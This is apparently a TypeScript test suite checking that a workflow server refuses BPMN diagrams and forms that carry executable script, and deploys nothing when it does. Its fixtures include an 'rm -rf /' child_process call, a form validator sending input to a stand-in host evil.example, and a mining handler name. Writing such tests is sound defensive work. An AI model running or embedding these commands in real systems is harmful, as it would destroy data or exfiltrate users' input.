/**
 * POST /processes/{key}/versions refuses a diagram with anything that could run code or
 * cannot run at all — every problem in one 422, each named by its element id — and
 * deploys nothing. POST /forms/{key}/versions refuses forms with JavaScript.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  bpmnDefinitions,
  linearProcess,
  scriptTaskStep,
  serviceTaskStep,
  userTaskStep,
} from '../testing/bpmn-builders.js';
import { REPO_ROOT, startTestServer, testDialect, type TestServer } from '../testing/harness.js';
import { assertProblem } from '../testing/problem.js';
import { WorkflowDriver } from '../testing/workflow-driver.js';

// ── tiny inline diagrams, one problem each ──
const flowTo = (from: string, to: string, id = `Flow_${from}_${to}`) =>
  `<sequenceFlow id="${id}" sourceRef="${from}" targetRef="${to}" />`;

const SCRIPT_TASK = bpmnDefinitions(
  'p-script',
  `<startEvent id="Start" />
  <scriptTask id="Task_script" scriptFormat="javascript"><script>require('child_process').exec('rm -rf /')</script></scriptTask>
  <endEvent id="End" />
  ${flowTo('Start', 'Task_script')} ${flowTo('Task_script', 'End')}`,
);

const SCRIPT_CONDITION = bpmnDefinitions(
  'p-script-condition',
  `<startEvent id="Start" />
  <exclusiveGateway id="Gateway" default="Flow_no" />
  <endEvent id="End_yes" /><endEvent id="End_no" />
  ${flowTo('Start', 'Gateway')}
  <sequenceFlow id="Flow_yes" sourceRef="Gateway" targetRef="End_yes">
    <conditionExpression xsi:type="tFormalExpression" language="javascript">next(null, this.environment.variables.ok)</conditionExpression>
  </sequenceFlow>
  ${flowTo('Gateway', 'End_no', 'Flow_no')}`,
);

const INVALID_FEEL = bpmnDefinitions(
  'p-bad-feel',
  `<startEvent id="Start" />
  <exclusiveGateway id="Gateway" default="Flow_no" />
  <endEvent id="End_yes" /><endEvent id="End_no" />
  ${flowTo('Start', 'Gateway')}
  <sequenceFlow id="Flow_yes" sourceRef="Gateway" targetRef="End_yes">
    <conditionExpression xsi:type="tFormalExpression">=amount &gt; </conditionExpression>
  </sequenceFlow>
  ${flowTo('Gateway', 'End_no', 'Flow_no')}`,
);

const UNPARSABLE =
  '<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="p-broken"';

describe(`refused deploys on ${testDialect()}`, () => {
  let srv: TestServer;
  let wf: WorkflowDriver;

  before(async () => {
    srv = await startTestServer();
    wf = await WorkflowDriver.signIn(srv, ['admin', 'clerk']);
  });
  after(() => srv?.stop());

  const deploy = (key: string, xml: string, username = 'admin') =>
    srv.api('POST', `/processes/${key}/versions`, {
      token: wf.token(username),
      body: xml,
      headers: { 'content-type': 'application/xml' },
    });

  async function processVersions(): Promise<Record<string, number[]>> {
    const res = await wf.call('admin', 'GET', '/processes');
    assert.equal(res.status, 200);
    return Object.fromEntries(
      (res.body.items as { key: string; versions: { version: number }[] }[]).map((p) => [
        p.key,
        p.versions.map((v) => v.version),
      ]),
    );
  }

  /** Deploys, expects 422 deploy_refused, and checks nothing was stored. */
  async function refused(key: string, xml: string) {
    const before = await processVersions();
    const res = await deploy(key, xml);
    const problem = assertProblem(res, 422, 'deploy_refused');
    assert.deepEqual(await processVersions(), before, 'nothing is deployed');
    return (problem.errors ?? []).map((e) => ({ path: e.path, code: e.code }));
  }

  const cases: { name: string; key: string; xml: () => string; expected: object[] }[] = [
    {
      name: 'a script task',
      key: 'p-script',
      xml: () => SCRIPT_TASK,
      expected: [{ path: 'Task_script', code: 'script_task' }],
    },
    {
      name: 'a script condition',
      key: 'p-script-condition',
      xml: () => SCRIPT_CONDITION,
      expected: [{ path: 'Flow_yes', code: 'script_condition' }],
    },
    {
      name: 'an unknown form key',
      key: 'p-unknown-form',
      xml: () =>
        linearProcess('p-unknown-form', [userTaskStep('Task_fill', { formKey: 'no-such-form' })]),
      expected: [{ path: 'Task_fill', code: 'unknown_form' }],
    },
    {
      name: 'an unknown handler topic',
      key: 'p-unknown-topic',
      xml: () =>
        linearProcess('p-unknown-topic', [serviceTaskStep('Task_mine', 'crypto.mineBitcoin')]),
      expected: [{ path: 'Task_mine', code: 'unknown_handler' }],
    },
    {
      name: 'invalid FEEL',
      key: 'p-bad-feel',
      xml: () => INVALID_FEEL,
      expected: [{ path: 'Flow_yes', code: 'invalid_feel' }],
    },
    {
      name: 'unparsable XML',
      key: 'p-broken',
      xml: () => UNPARSABLE,
      expected: [{ path: 'definitions', code: 'unparsable' }],
    },
    {
      name: 'an unknown role',
      key: 'p-unknown-role',
      xml: () =>
        linearProcess('p-unknown-role', [userTaskStep('Task_fill', { candidateGroups: 'king' })]),
      expected: [{ path: 'Task_fill', code: 'unknown_role' }],
    },
    {
      name: 'a process id other than the key',
      key: 'p-other',
      xml: () => linearProcess('p-mismatch', [userTaskStep('Task_fill')]),
      expected: [{ path: 'p-mismatch', code: 'key_mismatch' }],
    },
  ];

  for (const c of cases) {
    it(`should refuse ${c.name} with 422 naming the element, and deploy nothing`, async () => {
      // when
      const problems = await refused(c.key, c.xml());

      // then
      assert.deepEqual(problems, c.expected);
      const start = await wf.call('clerk', 'POST', `/processes/${c.key}/instances`, {
        businessKey: 'X-1',
      });
      assertProblem(start, 404, 'not_found');
    });
  }

  it('should list every problem of a diagram in one answer', async () => {
    // given a diagram with five problems
    const xml = linearProcess('p-everything-wrong', [
      scriptTaskStep('Task_script'),
      userTaskStep('Task_form', { formKey: 'no-such-form' }),
      serviceTaskStep('Task_topic', 'crypto.mineBitcoin'),
      userTaskStep('Task_due', { dueDate: '=today( +' }),
      userTaskStep('Task_role', { candidateGroups: 'clerk,king' }),
    ]);

    // when
    const problems = await refused('p-everything-wrong', xml);

    // then
    assert.deepEqual(problems.map((p) => `${p.path}:${p.code}`).sort(), [
      'Task_due:invalid_feel',
      'Task_form:unknown_form',
      'Task_role:unknown_role',
      'Task_script:script_task',
      'Task_topic:unknown_handler',
    ]);
  });

  it('should refuse a script task added to a shipped process, leaving its versions and instances as they were', async () => {
    // given an application running on version 1
    const running = await wf.start('clerk', 'new-connection', 'NC-R1', {});
    const shipped = fs.readFileSync(path.join(REPO_ROOT, 'processes/new-connection.bpmn'), 'utf8');
    const tampered = shipped.replace(
      '<endEvent id="EndEvent_installed"',
      '<scriptTask id="Task_sneaky" scriptFormat="javascript"><script>process.exit(1)</script></scriptTask>\n    <endEvent id="EndEvent_installed"',
    );
    assert.notEqual(tampered, shipped);

    // when
    const problems = await refused('new-connection', tampered);

    // then
    assert.deepEqual(problems, [{ path: 'Task_sneaky', code: 'script_task' }]);
    assert.deepEqual((await processVersions())['new-connection'], [1]);
    assert.equal((await wf.start('clerk', 'new-connection', 'NC-R2', {})).version, 1);
    assert.equal((await wf.instance(running.id)).version, 1);
  });

  it('should answer 415 to a body that is not XML', async () => {
    // when
    const res = await wf.call('admin', 'POST', '/processes/p-json/versions', { xml: '<x/>' });

    // then
    assertProblem(res, 415);
  });

  it('should let only an administrator deploy', async () => {
    // when
    const res = await deploy(
      'p-by-clerk',
      linearProcess('p-by-clerk', [userTaskStep('T')]),
      'clerk',
    );

    // then
    assertProblem(res, 403);
    assert.equal((await processVersions())['p-by-clerk'], undefined);
  });

  it('should deploy a clean diagram as version 1, and the same diagram again as no new version', async () => {
    // given
    const xml = linearProcess('p-clean', [userTaskStep('Task_fill')]);

    // when
    const first = await deploy('p-clean', xml);
    const again = await deploy('p-clean', xml);

    // then
    assert.equal(first.status, 201, JSON.stringify(first.body));
    assert.deepEqual(first.body, { key: 'p-clean', version: 1, created: true });
    assert.deepEqual(again.body, { key: 'p-clean', version: 1, created: false });
    assert.deepEqual((await processVersions())['p-clean'], [1]);
  });

  describe('forms', () => {
    async function formVersions(): Promise<Record<string, number[]>> {
      const res = await wf.call('admin', 'GET', '/forms');
      assert.equal(res.status, 200);
      return Object.fromEntries(
        (res.body.items as { key: string; versions: number[] }[]).map((f) => [f.key, f.versions]),
      );
    }

    it('should refuse a form with custom JavaScript validation, naming each place, and deploy nothing', async () => {
      // given
      const before = await formVersions();
      const form = {
        title: 'แบบฟอร์มมีสคริปต์',
        components: [
          {
            type: 'textfield',
            key: 'name',
            label: 'ชื่อ',
            input: true,
            validate: { custom: "valid = fetch('https://evil.example/' + input)" },
          },
          {
            type: 'number',
            key: 'total',
            label: 'รวม',
            input: true,
            calculateValue: 'value = data.a + data.b',
          },
        ],
      };

      // when
      const res = await wf.call('admin', 'POST', '/forms/complaint-escalation/versions', form);

      // then
      const problem = assertProblem(res, 422, 'deploy_refused');
      assert.deepEqual(
        problem.errors?.map((e) => e.path),
        ['components[0].validate.custom', 'components[1].calculateValue'],
      );
      assert.deepEqual(await formVersions(), before);
    });

    it('should let only an administrator deploy a form', async () => {
      // when
      const res = await wf.call('clerk', 'POST', '/forms/f-clerk/versions', {
        components: [{ type: 'textfield', key: 'a', label: 'A', input: true }],
      });

      // then
      assertProblem(res, 403);
    });
  });
});
